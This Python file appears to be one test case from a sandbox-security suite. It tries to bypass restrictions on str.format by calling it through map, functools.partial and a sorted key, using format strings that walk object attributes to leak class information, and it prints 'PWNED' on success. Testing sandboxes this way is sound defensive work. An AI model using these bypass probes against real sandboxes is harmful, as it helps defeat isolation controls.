# attack: map-str-format
# layer: language
# class: leak
# success: str.format unbound, by map, partial and sorted(key=)
import functools
def run():
    last = "no"
    for f in (lambda: list(map(str.format, ["{0.__class__}"], [()])), lambda: functools.partial(getattr(str, "format"), "{0.__class__}")(()), lambda: sorted([()], key="{0.__class__.__base__}".format)):
        try:
            return "PWNED " + repr(f())
        except Exception as e:
            last = str(e)
    return last
